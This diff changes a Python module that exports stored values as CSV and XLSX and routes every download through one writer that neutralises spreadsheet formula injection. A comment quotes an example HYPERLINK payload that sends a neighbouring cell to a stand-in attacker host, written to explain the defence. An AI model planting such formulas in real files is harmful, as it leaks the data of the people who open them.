@@ -1,12 +1,17 @@
-"""The stored values as rows for export_values and file downloads. The keys are a contract that
-other systems and checks rely on: add keys, never rename or drop one."""
+"""The stored values as rows for export_values and file downloads, and the one CSV/XLSX writer every
+download uses. The keys are a contract that other systems and checks rely on: add keys, never rename
+or drop one."""
 
 from __future__ import annotations
 
 import csv
 import io
+import re
+from collections.abc import Iterable
 
 import orjson
+from openpyxl import Workbook
+from openpyxl.cell.cell import ERROR_CODES, WriteOnlyCell
 
 from .engine import empty_status_fields, status_fields
 from .models import DataValue
@@ -80,32 +85,78 @@ def _columns(rows: list[dict]) -> list[str]:
     return keys
 
 
+def _flat(value):
+    """A cell of a value row: lists and dicts (flags, tiers) as compact JSON text."""
+    return orjson.dumps(value).decode() if isinstance(value, dict | list) else value
+
+
 def to_csv(rows: list[dict]) -> bytes:
-    buf = io.StringIO()
     keys = _columns(rows)
-    writer = csv.DictWriter(buf, fieldnames=keys, extrasaction="ignore")
-    writer.writeheader()
-    for row in rows:
-        writer.writerow(
-            {k: (orjson.dumps(v).decode() if isinstance(v, dict | list) else v) for k, v in row.items()}
-        )
-    return buf.getvalue().encode("utf-8-sig")
+    return write_csv(keys, ([_flat(row.get(k)) for k in keys] for row in rows))
 
 
 def to_xlsx(rows: list[dict]) -> bytes:
-    from openpyxl import Workbook
-
-    wb = Workbook(write_only=True)
-    ws = wb.create_sheet("so-lieu")
     keys = _columns(rows)
-    ws.append(keys)
+    return write_xlsx(keys, ([_flat(row.get(k)) for k in keys] for row in rows), sheet="so-lieu")
+
+
+# ---------------------------------------------------------------------------------- the one writer
+# Every spreadsheet we hand out goes through these two functions: the API's ?format=csv|xlsx,
+# `manage.py export_values` and the indicator page's downloads. Text in them comes from people (notes,
+# raw texts) and from the catalogue (names), so it must never run as a formula when the file is opened
+# (OWASP "CSV injection": `=HYPERLINK("http://evil.example/?x="&A1,"click")` sends a neighbouring cell
+# away). Numbers stay numbers.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+XLSX_MAX_TEXT = 32767  # Excel's limit for one cell
+XLSX_CUT = " …[đã cắt: ô Excel chứa tối đa 32.767 ký tự]"
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+_SHEET_ILLEGAL = re.compile(r"[\[\]:*?/\\]")
+
+
+def csv_cell(value):
+    """A text a spreadsheet would read as a formula gets a leading `'`, which shows it as text."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def write_csv(header: list[str], rows: Iterable[list]) -> bytes:
+    """UTF-8 with a BOM (Excel then reads Vietnamese letters right), dot decimals, for other systems."""
+    buf = io.StringIO()
+    writer = csv.writer(buf)
+    writer.writerow([csv_cell(h) for h in header])
+    writer.writerows([csv_cell(v) for v in row] for row in rows)
+    return buf.getvalue().encode("utf-8-sig")
+
+
+def _xlsx_text(ws, text: str):
+    """A text as a string cell, whatever it looks like. openpyxl would store `=…` as a formula and
+    `#N/A` as an error; characters XML 1.0 cannot hold (control characters) become U+FFFD, and a text
+    longer than a cell holds says it was cut instead of being cut silently."""
+    text = _XML_ILLEGAL.sub("\ufffd", text)
+    if len(text) > XLSX_MAX_TEXT:
+        text = text[: XLSX_MAX_TEXT - len(XLSX_CUT)] + XLSX_CUT
+    if not text.startswith("=") and text not in ERROR_CODES:
+        return text  # openpyxl writes it as a string cell as it is
+    cell = WriteOnlyCell(ws, value=None)
+    cell.value = text
+    cell.data_type = "s"
+    return cell
+
+
+def write_xlsx(header: list[str], rows: Iterable[list], *, sheet: str, title: str | None = None) -> bytes:
+    """One sheet: an optional title row, the header, the rows. Numbers as numbers, every text as text."""
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet(_SHEET_ILLEGAL.sub("-", sheet)[:31] or "so-lieu")
+
+    def cells(values):
+        return [_xlsx_text(ws, v) if isinstance(v, str) else v for v in values]
+
+    if title is not None:
+        ws.append(cells([title]))
+    ws.append(cells(header))
     for row in rows:
-        ws.append(
-            [
-                orjson.dumps(row.get(k)).decode() if isinstance(row.get(k), dict | list) else row.get(k)
-                for k in keys
-            ]
-        )
+        ws.append(cells(row))
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
